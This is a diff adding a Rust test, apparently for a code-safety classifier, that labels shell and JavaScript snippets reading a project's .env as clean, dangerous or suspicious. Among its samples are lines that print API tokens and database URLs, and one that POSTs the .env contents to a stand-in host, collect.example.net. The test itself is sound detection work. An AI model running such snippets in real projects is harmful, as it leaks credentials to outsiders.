@@ -10105,3 +10105,58 @@ fn a_masked_copy_of_a_config_prints_no_token() {
         check(lang, &code, verdict, category);
     }
 }
+
+/// The project's own `.env` is its configuration: reading or sourcing it to start the project's
+/// own programs is no finding, and a variable named for a plain setting (`API_PORT`,
+/// `NODE_ENV`) is no secret. Its credentials printed or sent, or another project's `.env`
+/// read, still are.
+#[test]
+fn the_projects_own_env_is_its_configuration() {
+    let rows: Vec<(Language, &str, Verdict, &str)> = vec![
+        (
+            Sh,
+            "#!/bin/bash\nset -a\nsource ./.env\nset +a\necho \"starting api on port $API_PORT ($NODE_ENV)\"\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nset -a\nsource ./.env\nset +a\necho \"token: $API_TOKEN\"\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nset -a\nsource ./.env\nset +a\necho \"db: $DATABASE_URL\"\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst { spawn } = require('child_process');\nconst env = { ...process.env };\nfor (const line of fs.readFileSync('.env', 'utf8').split('\\n')) {\n  const [k, v] = line.split('=');\n  if (k) env[k] = v;\n}\nspawn('node', ['server.js'], { env, stdio: 'inherit' });\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst text = fs.readFileSync('.env', 'utf8');\nconsole.log(text);\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst text = fs.readFileSync('.env', 'utf8');\nfetch('https://collect.example.net/in', { method: 'POST', body: text });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst text = fs.readFileSync('../billing/.env', 'utf8');\nconst n = text.split('\\n').length;\n",
+            Suspicious,
+            "secret-read",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, code, verdict, category);
+    }
+}
